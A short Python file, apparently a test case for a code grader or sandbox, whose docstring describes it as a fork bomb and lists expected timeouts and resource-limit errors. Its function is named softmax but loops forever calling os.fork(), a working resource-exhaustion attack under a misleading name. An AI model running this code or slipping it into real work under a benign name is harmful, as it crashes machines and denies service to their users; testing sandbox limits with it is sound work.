"""A fork bomb.

Expected: timeout or error; the others keep their marks.
Told: it used more memory than allowed / it kept more processes at work / took too long
"""

import os


def softmax(z):
    while True:
        try:
            os.fork()
        except OSError:
            pass
